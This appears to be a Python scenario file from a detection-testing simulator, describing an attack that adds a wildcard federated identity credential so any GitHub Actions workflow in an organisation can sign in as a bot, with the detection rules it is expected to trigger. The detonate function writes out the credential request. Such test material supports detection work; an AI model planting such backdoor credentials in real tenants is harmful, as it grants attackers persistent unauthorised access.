"""Any workflow of an organisation may sign in as the bot."""

from typing import Final

from sekimori.sim.attack import Attacker

ID: Final = "federated_credential_with_wildcard"
TITLE: Final = {"ja": "ワイルドカードのフェデレーション資格情報", "en": "Trust any workflow by a wildcard"}
STORY: Final = {
    "ja": "サブジェクトをワイルドカードの式にし、組織のどのワークフローもボットとしてサインインできるようにする。",
    "en": "The subject is an expression with a wildcard: any workflow of the organisation can sign in as the bot.",
}
ATTACK: Final = ("T1098.001",)
MUST_FIRE: Final = ("federated_credential_weak", "graph_credential_write")
MUST_STAY_QUIET: Final = (
    "service_principal_sign_in",
    "permission_requested",
    "federated_credential_added",
    "client_credential_added",
)
TELLING: Final = ("FederatedIdentityCredentials",)


async def detonate(attacker: Attacker) -> None:
    """Add the federated credential."""
    body = {
        "name": f"any-{attacker.now():%H%M%S}",
        "issuer": "https://token.actions.githubusercontent.com",
        "claimsMatchingExpression": {"value": "claims['sub'] matches 'repo:northwind-ci/*'", "languageVersion": 1},
        "audiences": ["api://AzureADTokenExchange"],
    }
    await attacker.manage("POST", "/federatedIdentityCredentials", body)
